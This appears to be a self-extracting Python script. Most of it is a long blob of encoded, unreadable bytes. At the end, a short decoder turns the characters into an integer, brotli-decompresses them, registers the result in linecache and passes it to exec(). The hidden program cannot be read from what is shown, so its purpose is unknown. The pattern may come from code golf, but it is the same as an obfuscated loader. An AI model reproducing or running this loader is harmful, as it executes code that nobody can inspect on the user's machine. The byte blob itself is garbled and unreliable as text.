OJM~UG~oWFRq4U0jmm-$V=Z̑b9˩#oŗ=7;<kxվ-99Uf[2^lX]m2BaFw|Au[*ޕۄf'$ĽOҟGӜ^Yy- =ս*E~4WB$LFG/AV[(S<1hŰ*i֎s1{1tלG&ofԑ=d~YI˘٤Ի6`ԯՄͪy)̓PEĦ6*VoEQFIN4&lK='q~aʫxz̸ZכٓZ<p`<&׻t+cpjݲʁqa>Fj[(<߹֮%Hچ/ql?	xnpHKԇЙ(	 p@Z:˺je!!C&,Zj;q49hqY60,Q*,Aفsϒ$*~Wr.ܚE%KMeI;-j_%[RQbTPJV xݡ\y@+QQ\pڼَ8̀!;2]5$ԻLVWf7MM˹?6<,`j߫u-"+L;NF-*vxWgQ-N ĖEN&T#>u_R~
\t_U3sOhk+ʑ%"xP_t"؀^Z9ZI/oz_/t"w4~MPYW}7P6jG#L'.ɩŬ8VE]IhЏ0vY&+ۜeLj1?j`
TOz8_¢R֕W3,FEZR*]]#q;-]
	GT;Wm2	ݰAh":D.H՚7G6ĳVg=F<z1fΩE0`4:BH@Iz<á^6WG9NʪOQXΫ&WFgrRǏ7ek܏bYϾVuZΌ`3d~^,&t$S~&*@kQR^ΰ=sJtjƍCuV3MIie5T
|^$^@,WqRd0p3>@ؙ޷ΗM4m DSD(Y"̩t[pp3' +¤E8JT$?pcdt3;hĒ{ȠU["inD۽ȹ_ztӽb(mЇ6b~	Z'+GĤQfx[EݣUy>|ŝ[lL:Wgfo
O>
ݸZ+wƉX)Rn]صŚlAߍJ{%F#:c+̭$mi0m:]rt#-h`ęޟާ],yAvXp~GƄE.LJx@ԛE!Z/f"'ffk5qgqɯO;g3(s5kwO9muRHߏH@ BLn/HLjցr_;>\?IGTا029AS]/_z2Y̼!%̄|{FQKb̰׀H:t 	q7BڗC@.*}V$kC2.XeظWp3`5+$FAsy=0(*"?<͢*{o~ pO(XƆ5eZy=Wiʞ}"QwشU6j n3o;5Nv߭eD4˭LSB]{LrX[ƄӼKw:џFqT}9қ3ɥ\ƴE&׾ߔ*QypHtxvK~ƾxp1^"M;Semӫ(46ɳZlƄ512i|2jd
ú-ã`ӥNT}ˮ-:KN[Fcdmq=C
n]DոTdC).gcqKvF]Ĺ#Ρ_4ʙy7/2%
+e|ȈS+G2oʈpޯȶ8A2Ò|/(z"x]ѾlZ{) ͛nEB3*۽<,-BEe\9eP٢'yRN]FcI^3"3'8K2¼e
XH,lf-Ӳ|424&1+4C& h%WBR}K7M^ߕηgޚb-xjVkU'Du_48 ^=1S3[YtYq'wrP%R\:[-9c֫Ѧs^}pPio'I?Eg{L#S)#Ż֊)ӏE3<]ډoe<LQE^U@#(nIdr,uЬJo|ʾ#'Wmac>8/XU z?ylҘe#Ԏr:?}UAW5TֆhseJystb=^{N=˖9O6f}^dlyO)e^>ظJ0ԏ:tξ0N>'Ƃ*ړ*zTNk;1_Elީ=.n!5hBlУU:11Y<dmXup|iԙ3'ʦIqH̶<Lq`z%	h#hw|˛!:s	i,t-XfʚXܠnХcյQ%YbN);}G<LŲ̑4;W5!iGl1~cAnfזi-dfcXZ]>LJʝytNk&[4cEnE͹gقxϰBoo'?bwV`8ϒnDco1qL-],(#I؈p͗7WXջUZ/Wxהg#[xg%,Sg?ܨ)lD?jԎevsնP7KoN.irLкvʴ%(	0AaM)t)bAK*`6U1C8eԫШ^^;m^iEIUUŐ(EWo{qW
?]@Xku3;oCZq܏WKR
f3"0'VaݢdʼI^+@v([iyC@Z΄&<\ߤ/.jx[mM	$/Ntv(c?.z}"yrNi^S(Rx%2KiϮ֚<:ɦS+S5z+@"p~hոnrAȆbݘY5r)L!~{.q';d/PW@īe͉aPA41Ӹ4&IG.Em$Rkܦpb1ɀWƿdvPԊ#F0wNǫ5ޞMŐ}'֑
Xx\,8WeJȳ{w"Kc9)]n/W4huhx*%)DfLfXTo8	Zs`eL?EQ)+=L<t
T-
GFjU.qܺpxvUmJLF*RMal9kJףۗ}FܺvO %ǁA"Hx}28x.'`rN3%n3yA2aБ!΁l9h3{J32I$?gJ'\YH
Mm%$%uO ;Xܜ!3"_1QU:JRev|Ȁ^{4גZcA\:-zȯSyڃkB>X1!^õuǚ:,pȓ}NF~?ؒz+|!^HOkNgϚƨ|yLͬOՈ4#<.jɯ:#rD{=־DΆ9ă<eEUvSq%\(^E4No֡z0֘/xIߩ
6ӈYЭH"V`	v߹-#:Ұ͚?*o*}s#֝qԯkxp1i+޶scp>Eg9_4HUȬ`S,|Ul]W&EWԓf3?gr*C4̻k7SB>okBYrXAIf*VOۖHRtéjAKgq8^QFwǣԎZ"ʒּ	ܠ ^ ڏ&ۣӗCx±ߒT<&aRu'rroVnrq1WPK%u.ai>4]ey"mÌ=bk֏51?yb7SdpR@VOxi9[aš"e6hO	L$J	BѰO?oND~wϷ آ$؝%X!;~ocԔo1cWkcJU4%x_0[Y{Ėw{ڭ&9cwh΃{ֿR̂EݥT4JYwY2dky2̪HڹЎyB%GxK4f)S0fywPpoװSo9A@`JȎS5iY?1}LQX@	ִ?LJ4`w3Iwb=)/KwJC"8H(@v$
b%hl$͜o3lTD4Ӻ%y_(n2݅͐ĽdǊpBà9\tW6p@-
	$/hۻՈ9Ɂt0R@t֌A8D#>eEѸ1X X0q7ޤҌn͚.X<V޲Dj]8pvJwJ|-e`n
|+j}7 !9HGkڴ١j$H\,H%}xHr*khΧmCFӳ֞H,
iBШbr,RTNOuf=f\r/a:UA!wԻ2,a/:/,:rp3b#t<y4UO6Qo0'drʚڤ|Wwb|ًuIi	ïs|f]*PcnpIcMey(wg6.||'~W:\14]R$gT\ڳb_6ac.-s|8ll>ٯЗח.kӞŨj^7~­FT|Y5lz߃O,H#Ie/PU ߲ԫ{.͗- 5G	~ԁs?6{R>Ըz]b}adW_:ʹ)~z	h2tQe4U,%^p&o4u"pC_6v<22~)qh=hR(wAxg\Ȉw[b-EPC6i{K|˗K1C؝ن`:GӋ3
L/e"^fٰ\g׃!0n΍4
4hEfuX,c'21z9Pڳ2z5ʦ׮ct&zŐ0FY;ڌV-k5Թͅ)ٲԸRg]~j4]7Zqr=Ǫ~c`}V{BD7lp0K]*+%̻G&{w"%r0Aܷ@{4Á"(r{[J4G6ޒέS mҼLKz6%E;yMliJe٧,SgPFH2=	/Х.2B[cS߆Dfċ1}g6M@=T'Ӌf߱d&1l s!J" /,S[L$da Pd*¿̞;MWJ+Չƻ'3YCl>v״)5/Uٳ9$Rזf̢.	ę+C'{F_{bx˩|ͽĒdڢnDb[j^ ޚ:g4^0~Y2ւl2bysq'*T(5[vZUvĜO;$NԮ%{;GfYaM!\6ڇr;LP"jwz̷A۝\'p?ɏZrB(z@ܞORBHs::IpH|C)~Cq#No`OI0*npB$ߑ?T|l:;^~ŐT~΍/͘k8GЬˇ$-x%/*8rIR;,%WS?O-Dxk``0϶iBajh;'r(`ayC~,Yۘ'bd;ɉf\bX\6;Nջf.ף%XR+`_Ҧ8KySNyf0%/U$Iho~)ҪȼM\8
a3N%ȆvFσkŔ&Cc?3MI:qmt@]<`|mXӇrO_ЫBє*B	%0LļknD8GOO=I
)H	1j=I[eO\ry%G4!8VHјjD
D,	s4qP,^cU..DgQg2]șIҽTt`p߮cDiuݫ,bnHosڭ*ͪ:C֍ڻB<ʴ21΋R_gYӸnܡw4O:(cex9dˠ-E*Dr^V:tَqџmDe;@0LQ)g\<Xu`,Ş7JE7nJZCA\64d8Չ,4AS=zf%źzWwo5Ư<iL4X"St>Lq*HpUx{g8]BXEatvί#|nYnĠ4m8֕q~oF=]	/lCq2%>[,0zvMUNlۨ)bO7|WPt7!Ԟ>iJ){ZӝѮˣC\^
ͅVOTxl)Ÿ7'0y&x&/OC*8+M!D^JNœhxEk϶GmaԲ֑֭sa.N\%ޅiFX]SSkM+G3./sI)IƵOA˛r{o6lX,U)U)9$yf?b$vAΫcRo{BC ہ؝SLڃҶ[42MOZΙe۞IMՂ#d1LF*Nsy5tX+Eʱf?AՏ:)
cɦ)Ĉ9KC(®1ouЖ=IUDoc٨1gO*RBk#GMO>IOQƽ̌Δ^,mxWٚzP<݇ylWz4Ĉ;f΍0[ޫ&#X'/%ksC.^;uoy-6̀Z5` .>m_<	ɨpU"=)Q#Wb
h̽i7wUk#v{{c`f̖gRsjT}A=!>+²57p.ղqcmوx!Իq+h)#8ڱ˄d۫^+ӈ1/{zxc$mWu2$Yz:ęcZY!
~yt=-pCm؄rm{k=&4*/Ԟ*.zЏՑG?R&,?]ANY܀7Zs3S1Ȁ(Bǽ4ʦ]cF"9O(rd!5)3|XHv[#3٭J8sv,kҨ`JŨaӠ{SâvլbyNRS:x
Hī``e$ʠӽI2ó?*!$ދ?!܅U7{ҍМ"3Ծ.E$=EA C?z%~?D=ra(F0:fDq38Pm>jԝ/̺Lo|:0aҽ;iEE	D#l75_ҟ2r+j@b:|.uo?
ҫVЎYsV!SMy
f(Ȅ;4 S\1:M̟Ud!E*(ܒ~Ӹ΅ĮǊ\^'ι9!w-Uz7f~+hљ_)u~Άh|֞?@*ѳԸi.x zW0|GwAJt>juܼ!^N)cM+a5M$pƾv :\ĴӴ)ʀɆ'Ke]%-hmƘ&n[3-ϗkjt	vZN3q!BVVSI	}(|Dw=,Ʀj'g1Lh|t6}bE<\b8B^_djܔ=H+fT@bsadb͑FaL|gujpvJ?|L&y,*&#l^W}d$CCW!L-&CVhN9|.	Y՛P#da<=*Mx/7o<R7!Mrʢ֏nҎ>pUR.qS"a`£V>Q2yǡCݏ^s?Oؚ(Sf!(_ɪ،t=sZ&^/IFÌ8gɡsPtA	6+g!J2x|8\JMcef:ǛJzLq="72[U]<@U#8#ԪMi\۬ȳsշ	N;8Z{`
&h\-mzx#+fLJޝ8lXޣY5)ja~Ia#kY&kG1iuxٵwن2p?ΞQ.;.ils]<KNE8Gy*la=նޞ#-w7rq;=]noJ^s!݌Nעw{>2*9VbJƬMP҇(x-n|636rմ
\̘hГ@hY3<!RQzcn9rl$f
@̇|R(R?ˢDDoB":tɊ!ʞDmG(Ǆə),E83L6A=VxX9\;z]Z;P>?~LkBѶIA֔6Q͈^IQaُ]ޑd"Cxt3_Z7ݢ?l"5|Fec)ÞKn\lȈReUfDAGa7|#<mOU'kFPaY[: ˬDƕ[5W}E A;Q'	dЬg	 LяY\fؼh_ (ZbJI5|TN$)7_6 a#@Z'/v/I'CD-*Ɠbދ_E$~rFgK,ru̓~N<'f4U2WO)GFF{jǔR[Pٞ}v?70Ȭ2Y	OYT"ueb[qM*.hlKZI_K,q	ȸ%ѓLV֍`,WϷGn̓(o}͍6{LmXhB4]u;*:1@q#NL
3X(nڜnW84WeO"W|2(`VΤ&|-' VuNq>PО2ɫ^	lЈTOe14'^{/#=#ݾuIkcq(;M͹MS:IPVfȟ"^`@q52óRd6ʮۨE|%t%br0E&5ԾPmj`s޺E?ͪ>FVk1@1m;pw7Cuf^r4X*vfYԺ1$>3Mф8i^e*
imµK(ړAͧ&lZӥsr[r4.+]ƕBAOE15N@oi}ݫ+&='Qb;ͥ'cJ)MW5٣wodڛˬǆCߍ2@\9Ro
̦znDP6	$:.L̐OزQ&Us7&o0XO" Miw0ɟpz:Ҽ9j~of%
'R7(+t+˽>uߗPy1{NR$G)CveѰV*2mN-"c8S
\w]6#F.Hž_bUAڀF2hܵ?k
u6#1.%I"\riY>Fhۺ"=?jӞWp=='jGe;áCa`ɦID~ʡ6
pڳ=+Ѽ(P+j[ǰ}Woh}a
(ʹEТ
*) (s+(1m}<l4KDVaYz#	˷+dOkǬȴQ-\;}Ǎ|@#ߋ=u}r6yB.yN)ȢʑV-1M_gT*cF+LSz~&*/pWڙ(O4
l*|Y4lԆ[>{އ$2AJ7Pf-O.m4ih8M\bM3K]aejU>GXά74VcP%dN^ٗ"N[Bx%tY	b%rW:<;%r38?Kګ#\ykG^-|!í(˸lݞՆҤX,1Dؿ;Osgz.lgZT,]ѲlWӆ@~AJcJYKqI|tl%h%Iщf6|e9Pl`I.C٠J:f9CM2z,٩ϐdzl
ˎ$eQ:MUANwV*jep2T!ڏG*yB)F}l]BĞf4z2<CȫQƚBBсO8ȱTy2jU#6*uSӫP׾^@mbͅT2wLetV	%9,ݷT"hާB|GԬoiџAyiŏF0o>5<1Qzz8.5W֫`BiI,gYdl#`o4"UX-DAó!W[E5~RzÉ~΋zڥ\b|A6wB߀]QùK#8$?аj3ʻ}UFj_?9Ug8efJ!k:TVkrɻN${'?L$L:I4c!:#}HoLԷdi؎(ҵ*c`)3٢!(HE%̅&V^|r`8'(%LB3hP˚BO3;gږYt>ϜTIS%%s_(:_n}<̷$O"|I։l46p(:;,5ǡҫlY;7ī2-_Vf?z;8nijNLԙ?0!%<ЛɋʟHzBnm|Rd̎O)ҘUxuYRS]6La9:Ʃ:wg%r
ŠiEwmɓGKagƌ#|'CMҍBĕ̏!҆4JzIw?P<2<:77WS3{ϱ$ʄ	bڒW=#{*n<%I'9(irGcѣ?p
>IlCԮܻrK,Ui %ߝ^ei)h֋4Y)tQIkdáP 	,4,1{qCh#͙SyR6^_5P_saFݏi7f?Ί:1 $+=cVQe?LØεY4oSA<:7fY"03nڍ܄Y%b,IWXbUϤsf2U5ٝ9GSGf~$JL^e=ȝwe@BfɭBtru@@3(];})q	Z7a:udSH4{2	)pV9syq}\&Q?v\	X$Ȋc]̥]j2.%<v/EdЕLD\?PՔ{DD.jgdQ]~OHlB1(Kfʲ3+2L=eXߦǠ;2efT+ѝ;|ǔ;f$"@	߶|V2N(W
W-5cC݋h)Aֻ@#T&ױUף@ܽhz-܏W7ɗ	u_v gMoW$'B,jh]&0lYa5KIbS>N^9,|wQܙ+G׬Zvqtv~̏EuEkO=` wn߫pԴ+2ixz{Mm2;Ud<otج~,|xŇ]j02Jv[Zi
DN@ŁU3X{WMe`Rgy
ǫMl1cMGOA4Fǋpj"9UP
%WH?N4,ݺjӐ$C=(u -$+56V%7PXuƿRs۵U=&RR83]$5,!,GBkes5[>9_z;>n#Bbߌj7yTAުmو87qƞgHO/%tZ>k*=[	 ޣ~b^ݧ5ьF6)eT
ߒ{Sam7pdRW},ħi!hh	^ȄKo؇dh3q+<gӻ WEFku4_$:MjW1:=#6zƾҵWr	||˛&eK !&XCL?_УYLV@ZtE-1ŮH+Hdx1_9oc[<?AP?αEsF>B:C$}˪۽3ɱBo?`lIN>M[İd[6̚v1- 	G:,#g|1sޠ{_Ǭ-yye_$ȡoq*Ԩ*c0vIS0$7rmԣC9AVzElv#2m|ݕ(>M%׀sͫJxoH2l͢E^m/ct=ȣ`ĴqZ!B:)9kQHe1T0	vWP}Wj+7E3*ӎ2݁ՖY+߼ʮVأG)B|Ah{
sb.}7?dxA`L'VOObYQ/JOiYIU)SEZ@Eϒ!²H zB!SZGjilqλA:J1^OpBW> 5&y0	}ʵBѸQ~qAxpiӳFp֛a,wqѱ@-PLdҴVت[ǣ[C$-AݜNWe33VV[6#
JltL// *¦ɦ%bZ45]ş@SԊUdI[ƽ)ʩ
S5<]C[&@sFm'PeYnT/¡\8C7P=PRjHI)OjNPEDs@5[Xh	VC#o::nFKoRKfE{OESzV>wnƼYנ.2=,\ϚA{"b*׷N]+HBI:ڙϢ*EYt˅7i<ުlMvN^Lwojmm>8~5^8<><aہV-5V	qܑLG0{ٰMyEYnΒlǑa9]@0ZBAtX}\%3*S!t4*w'T ɽKy/+#}qiX:S$jEJW[T0pפn2ShPLoĹGѰhҤ-^Kt21Z
\ρȬzS@v J)#/@ì
ԍȶ/T!*zAss?1%hQ`Izb [Ȯ.NkSl|Y,SE~@xڵ)qqb* ڞm5Ɔa۶'^V?P9r+_<;Ĵ?r#3i(h*ذ;BR#Y^{؏+c2KL`qܻA,ɒБs`Et֜F	!ܙIB+еڗưk
d,$TO\fӁH](֣-[fWfR8
@Թ2!$֍:Aɐ]-9j%yK@P$9Dmc7Xzln̂d\^pzY?	Grd4	δ6X!Q1̴;)ν?2uM}	2S1S҇gҮlƌ%>"bӕq+ߑ-GjFR,_;#ѵqT:oAAG(]"'sP_sֱP[kα*g&baԪI%oM%fϤa;G5918cTc3݀`WȐ}Q	}UTWF`LeN	)uOm,ݬ;Vpck.sB*+	_.:ҬWf/xQ|>8elƢՕ/r9# tVu$>05%ȅ/ߦ߯y$1ȦVKCʽ Ք#!0Ԏ$S+4!oHNԥ|\tݶv.FdX09-lܡ	1ƕC_cEA(qK\e İϸL[is1F'3U.)W{"H;ȉ_m$pX6j ˎvNPޘ˷cuG|2р1.Ft5@<6ǒV:ז0M%}3b"`),:Aό5BUT|i@ۛ	(abXeCS6}A):L1w4_
]8̑V®DL*Tg,XdF+Gʣupá2!qSi3tC3̔d2`߆аLY''4T[)r9ؖJO ?99ha/bH(zyt&ēՊi|AW-EN"يo3ERHc_Jػ)F>o&&w8˼JCAL}\88Vpu,rjdv*̈?Le/U:IZa!:@O	ϛJzB`JT=ə9$r\=Ý
uHJf\O,f|k=ǥiV9;'Iމi+nHnlm4ӏ	?xz3"OTۋOlf<l_3&I*:Gj6y^.k?uSA\էQ{=y0MEDڲk#/-چikd#Հ}Z
 NokzWU
{qfYQ!ỹZ^Ė`+'Ie0Z$]KkɎ(Y&5/WԌDq{Fls8,UUG)_f2d+H7ISӯ793A]T fb71FT`7<yƲ"͇V <##}.sΫF+M&/:Q-ل;n3<luru$Q`WE)V/H	JI˞7(JõO_ƿȶ{(1cwVɟG}F_uhsf.?ChEleRaBaߒoŜJ)l_Ýrv2dFW90h/́EU{ЅJ>1bņ-jȜLk"!ԁ
	9!'t P4(orZ}ܠGj*4	^\\Ʒ7)stǠdn&ߺO_	L?j9T޽ȹφvP@j%k-wyCXhovh5NݿyǺO+q2շLgˎ+Xw<}UՉ>@kהi@<Ӎiҕ?[%yGlh:qYm1?2Bgi6I6]t]ѧ-X"aU:"ݗ0(*ޫ`7dA٨Sr5EݷC׭0;/'h3*41ĦL@ւҭt(
֓,\J1I:mMC2dx)9{2Sڅ"b3<!XO#D\ˎifl)ʍfـTPp9dKt*r's"PӪ9Yځ57zb4Ӕg	&/7]PTKZӽA	r	z(߾f۔{^_~k}rE[dA׏2C)sf+Ϡu 2@4<:Ŏֆbɚu*ȏ"Xl;Ȟ yѣdA؟ɯPُݿUƾqXGSA0+t7~5A$b4ӛ44/{(SߕyӮ~&@֕Q&ǋӿDڵ&{qTToXW&?3c^R;W&nz\u{Rޞ9UEtA]ϟȱުGjɖvNY.:Pw_q95ǖfspW;!PPˁdN1	So	aBj3X޵T`cU(֩?3%--w/b%һ!Ck
.h=bLi*(#kw8AD_s\ UY"<IqZޙ<gU k0`?pyRScXMGѕ$D?œN@$	C`7w5Z+eڸ΄kӌrcSM''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25638)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
